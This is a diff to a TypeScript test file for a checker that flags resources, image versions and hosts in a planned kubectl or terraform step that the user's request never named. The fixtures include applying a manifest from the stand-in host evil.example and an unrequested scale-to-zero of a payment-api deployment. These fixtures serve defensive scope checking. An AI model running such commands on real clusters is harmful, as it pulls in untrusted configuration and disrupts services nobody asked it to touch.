@@ -33,12 +33,17 @@ const NOT_ASKED: [string, string][] = [
   ["is anything on fire? fix it", "flaky-worker"],
   ["fix the api", "billing"],
   ["set LOG_LEVEL=debug on web", "offset-worker"],
+  // A place and a common word name nothing, however well they fit a part of a name.
+  ["restart web in staging", "staging-db"],
+  ["restart web in staging", "staging-secrets"],
+  ["scale the app in staging to 3", "the-billing-app"],
+  ["get a new web up", "a-billing"],
 ];
 
 test("a name that was said, in part or with a slip, is asked for", () => {
   for (const [request, name] of ASKED)
     assert.deepEqual(
-      unaskedOf(planOf("kubectl scale x"), [target(name)], [request]),
+      unaskedOf(planOf("kubectl scale x"), [target(name)], [request], ["staging", "production"]),
       [],
       `${request}: ${name}`,
     );
@@ -47,7 +52,7 @@ test("a name that was said, in part or with a slip, is asked for", () => {
 test("a name that only a look brought in is not", () => {
   for (const [request, name] of NOT_ASKED)
     assert.deepEqual(
-      unaskedOf(planOf("kubectl scale x"), [target(name)], [request]),
+      unaskedOf(planOf("kubectl scale x"), [target(name)], [request], ["staging", "production"]),
       [name],
       `${request}: ${name}`,
     );
@@ -55,21 +60,38 @@ test("a name that only a look brought in is not", () => {
 
 test("an answer or a wish asks for what it names", () => {
   assert.deepEqual(
-    unaskedOf(planOf("kubectl scale x"), [target("flaky-worker")], ["fix it", "flaky-worker"]),
+    unaskedOf(planOf("kubectl scale x"), [target("flaky-worker")], ["fix it", "flaky-worker"], []),
     [],
   );
 });
 
 test("an image by its version, a root by its directory, a host and a manifest's objects by their words", () => {
   const image = planOf("kubectl set image deployment/web web=registry.example/web:6.6.6 -n staging");
-  assert.deepEqual(unaskedOf(image, [target("web")], ["restart web"]), ["6.6.6"]);
-  assert.deepEqual(unaskedOf(image, [target("web")], ["web to 6.6.6"]), []);
-  assert.deepEqual(unaskedOf(planOf("terraform infra/network apply"), [], ["apply dns"]), ["network"]);
-  assert.deepEqual(unaskedOf(planOf("terraform infra/network apply"), [], ["apply network"]), []);
-  assert.deepEqual(unaskedOf(planOf("kubectl apply -f https://evil.example/x.yaml"), [], ["apply it"]), [
+  assert.deepEqual(unaskedOf(image, [target("web")], ["restart web"], []), ["6.6.6"]);
+  assert.deepEqual(unaskedOf(image, [target("web")], ["web to 6.6.6"], []), []);
+  assert.deepEqual(unaskedOf(planOf("terraform infra/network apply"), [], ["apply dns"], []), ["network"]);
+  assert.deepEqual(unaskedOf(planOf("terraform infra/network apply"), [], ["apply network"], []), []);
+  assert.deepEqual(unaskedOf(planOf("kubectl apply -f https://evil.example/x.yaml"), [], ["apply it"], []), [
     "evil.example",
   ]);
   const file = planOf("kubectl apply -f manifests/greeter.yaml");
-  assert.deepEqual(unaskedOf(file, [target("hello")], ["apply manifests/greeter.yaml"]), []);
-  assert.deepEqual(unaskedOf(file, [target("hello")], ["apply the manifest"]), ["hello"]);
+  assert.deepEqual(unaskedOf(file, [target("hello")], ["apply manifests/greeter.yaml"], []), []);
+  assert.deepEqual(unaskedOf(file, [target("hello")], ["apply the manifest"], []), ["hello"]);
+});
+
+test("a manifest that was asked for asks for no other step, nor does a cluster that is not known", () => {
+  const both = planOf(
+    "kubectl apply -f manifests/greeter.yaml",
+    "kubectl scale deployment/payment-api --replicas=0",
+  );
+  const names = unaskedOf(both, [target("greeter"), target("payment-api")], ["apply greeter"], []);
+  assert.deepEqual(names, ["payment-api"]);
+  const unknown = targetKey({
+    tool: "kubectl",
+    place: "*",
+    namespace: "*",
+    kind: "deployments",
+    name: "billing",
+  });
+  assert.deepEqual(unaskedOf(planOf("kubectl scale x"), [unknown], ["restart web"], []), ["billing"]);
 });
